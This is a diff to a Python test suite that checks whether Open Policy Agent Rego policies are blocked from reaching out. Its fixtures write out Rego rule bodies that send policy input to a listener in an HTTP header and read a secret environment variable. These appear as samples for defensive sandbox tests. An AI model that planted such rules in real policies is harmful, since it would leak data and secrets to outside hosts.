@@ -40,7 +40,10 @@ def _secret(monkeypatch: pytest.MonkeyPatch) -> None:
 def attack(listener: Server) -> dict[str, str]:
     """Bodies of a rule, by what they try; each is true where it succeeds."""
     return {
-        "send": f'http.send({{"method": "get", "url": "{listener.url}/", "body": input}}).status_code != 0',
+        "send": (
+            f'http.send({{"method": "get", "url": "{listener.url}/", '
+            '"headers": {"X-Policy": json.marshal(input)}}).status_code != 0'
+        ),
         "environment": "opa.runtime().env.SMGUARD_TEST_SECRET != null",
         "lookup": 'net.lookup_ip_addr("localhost") != set()',
         "random": 'rand.intn("x", 10) >= 0',
@@ -91,6 +94,8 @@ def commands(place: Path) -> dict[str, list[str]]:
 def test_rego_does_not_reach_out(name: str, listener: Server, opa: Path, tmp_path: Path) -> None:
     place = written(tmp_path / "b", policy(attack(listener)[name]))
     for command, arguments in commands(place).items():
+        if name == "print" and command in {"build", "check"}:  # which erase it
+            continue
         done = run_opa(opa, command, *arguments, seconds=20)
         assert done.code != 0
         assert f"undefined function {CALLED.get(name, name)} {WITHHELD_SAID}" in done.said
@@ -104,9 +109,14 @@ def test_without_walls_the_attacks_succeed(listener: Server, opa: Path, tmp_path
     )
     told = "told := opa.runtime().env.SMGUARD_TEST_SECRET"
     place = written(tmp_path / "b", f"package smguard\n\n{rules}\n\n{told}\n\ndecision := told\n")
-    done = subprocess.run([opa, "eval", "-b", place, "data.smguard"], capture_output=True, check=False)
+    done = subprocess.run(
+        [opa, "eval", "-b", place, 'x := data.smguard with input as "judged"'], capture_output=True, check=False
+    )
     assert SECRET.encode() in done.stdout
-    assert {request["path"] for request in listener.requests} == {"/", "/schema.json"}
+    assert {(one["path"], one.get("X-Policy")) for one in listener.requests} == {
+        ("/", '"judged"'),
+        ("/schema.json", None),
+    }
 
 
 def test_harmless_rego_runs(opa: Path, tmp_path: Path) -> None:
